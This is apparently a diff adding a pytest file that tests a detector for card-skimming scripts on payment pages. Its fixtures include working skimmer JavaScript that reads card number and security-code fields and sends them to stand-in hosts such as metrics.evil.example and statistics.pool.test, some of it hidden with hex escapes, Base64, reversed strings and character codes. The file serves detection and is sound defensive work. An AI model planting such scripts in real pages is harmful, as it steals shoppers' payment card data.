@@ -1,0 +1,127 @@
+"""Scripts that copy fields of a payment to another site, and those that read them for the page."""
+
+from __future__ import annotations
+
+import base64
+
+import pytest
+
+from pagegrade.parse.html.card_skimmers import MIN_NAMED, find_skimmers
+from pagegrade.parse.party import Parties
+from tests.builders import make_document
+from tests.linear import MAX_RATIO, growth
+
+PARTIES = Parties("example.com", frozenset({"examplecdn.net"}))
+FIELDS = (
+    "<form action=/pay method=post><input id=knr name=card autocomplete=cc-number>"
+    "<input id=pk name=code autocomplete=cc-csc><input name=who autocomplete=name></form>"
+)
+
+
+def found(script: str, page: str = FIELDS) -> list[str]:
+    """Kinds of what is found in a page with a script."""
+    document = make_document(f"<title>支払い</title><h1>Оплата</h1>{page}<script>{script}</script>")
+    return [one.kind for one in find_skimmers(document, PARTIES)]
+
+
+def escaped(text: str) -> str:
+    """In hexadecimal escapes."""
+    return "".join(f"\\x{ord(one):02x}" for one in text)
+
+
+ALL = (
+    "document.querySelectorAll('input,select').forEach(e=>{d[e.name]=e.value});"
+    "(new Image).src='https://metrics.evil.example/p.gif?d='+btoa(JSON.stringify(d))"
+)
+
+
+def test_scripts_that_copy_all_secret_fields_to_another_site() -> None:
+    """To the own site, of a page without secrets, or of one field only is what forms do."""
+    page = "<form><input name=n autocomplete='billing cc-number'></form>"
+
+    assert found(ALL, page) == ["skimming-script"]
+    assert found(ALL, "<form><input type=password name=p></form>") == ["skimming-script"]
+    assert found(ALL.replace("evil.example", "example.com"), page) == []
+    assert found(ALL, page.replace("billing cc-number", "name")) == []
+    assert found(ALL.replace("querySelectorAll('input,select')", "querySelectorAll('.q')"), page) == []
+
+
+def base64_of(text: str) -> str:
+    """As ``atob`` reads it."""
+    return base64.b64encode(text.encode()).decode()
+
+
+HIDDEN = base64_of("https://stat istics.pool.test/c?q=")
+BACKWARDS = "https://statistics.pool.test/c"[::-1]
+NUMBERS = ",".join(str(ord(one)) for one in "https://statistics.pool.test/c")
+
+
+@pytest.mark.parametrize(
+    "script",
+    [
+        f"var a=['{escaped('knr')}','{escaped('pk')}','{escaped('value')}'];function g(i){{return "
+        f"document['getElementById'](a[i])[a[2]]}}(new Image)['{escaped('src')}']="
+        f"atob('{HIDDEN}')['replace'](' ','')+g(0)+g(1)",
+        "setInterval(()=>fetch('https://statistics.pool.test/c',{method:'POST',body:document.getElementById('knr')"
+        ".value+document.querySelector('[name=code]').value}),900)",
+        "var f=document.forms[0];navigator.sendBeacon('ht'+'tps://statistics.pool.test/c',f.card.value+f.code.value)",
+        f"navigator.sendBeacon('{BACKWARDS}'.split('').reverse().join(''),new FormData(f))",
+        f"x=new XMLHttpRequest;x.open('POST',String.fromCharCode({NUMBERS}));x.send(q('#knr').value+q('#pk').value)",
+        "document.addEventListener('change',e=>new WebSocket('wss://statistics.pool.test').send(e.target.value))",
+        f"f.onsubmit=e=>{{e.preventDefault();fetch(atob('{base64_of('https://statistics.pool.test/')}'),"
+        "{body:q('#knr').value+q('#pk').value})}",
+    ],
+)
+def test_scripts_that_send_a_card_to_an_unknown_site(script: str) -> None:
+    """As written, in escapes, in Base64, in pieces, back to front; the same is nothing without a card."""
+    assert found(script) == ["skimming-script"]
+    assert found(script, "<form action=/s><input id=knr name=card><input id=pk name=town></form>") == []
+
+
+def test_fields_of_a_card_are_known_by_their_names() -> None:
+    """Without ``autocomplete``."""
+    page = "<form action=/pay><input name=card_number><input name=cvc></form>"
+
+    assert found("fetch('https://statistics.pool.test/',{body:f.card_number.value+f.cvc.value})", page)
+    assert not found("fetch('https://statistics.pool.test/',{body:f.card_number.value+f.town.value})", page)
+
+
+@pytest.mark.parametrize(
+    ("script", "page"),
+    [
+        ("fetch('https://bins.lookup.test/'+document.getElementById('knr').value.slice(0,6))", FIELDS),
+        ("fetch('/pay',{body:f.card.value+f.code.value})", FIELDS),
+        ("fetch('https://examplecdn.net/pay',{body:f.card.value+f.code.value})", FIELDS),
+        ("fetch('https://api.stripe.com/v1/tokens',{body:f.card.value+f.code.value})", FIELDS),
+        (
+            "fetch('https://api.till.test/v1/tokens',{body:f.card.value+f.code.value})",
+            f"{FIELDS}<script src=https://js.till.test/v3/></script>",
+        ),
+        (
+            "f.onsubmit=e=>{e.preventDefault();fetch('https://api.till.test/v1/tokens',{body:f.card.value+f.code.value})}",
+            FIELDS,
+        ),
+        ("document.querySelectorAll('input[type=email]').forEach(e=>fetch('https://mail.test/'+e.value))", FIELDS),
+        ("fetch('https://statistics.pool.test/?page='+location.pathname)", FIELDS),
+        ("var help={card:'knr',code:'pk',url:'https://help.test/',value:1}", FIELDS),
+    ],
+)
+def test_scripts_that_serve_the_payment(script: str, page: str) -> None:
+    """Brands of cards, own servers, providers of payments, forms that a script sends, newsletters, and statistics."""
+    assert found(script, page) == []
+
+
+def test_one_named_field_is_not_enough() -> None:
+    """At the limit and one below."""
+    names = ["f.card.value", "f.code.value"]
+
+    assert found(f"fetch('https://a.pool.test/'+{'+'.join(names[:MIN_NAMED])})")
+    assert not found(f"fetch('https://a.pool.test/'+{'+'.join(names[: MIN_NAMED - 1])})")
+
+
+@pytest.mark.parametrize("part", ["\\x61", "fetch('https://a.", "querySelectorAll('", "'+'", "atob('YWJjZGVmZ2g='"])
+def test_hostile_scripts_cost_linear_time(part: str) -> None:
+    """Every search is bounded."""
+    pages = {n: make_document(f"{FIELDS}<script>fetch value {part * n}</script>") for n in (3_000, 6_000, 12_000)}
+
+    assert growth(lambda n: list(find_skimmers(pages[n], PARTIES)), 3_000) <= MAX_RATIO
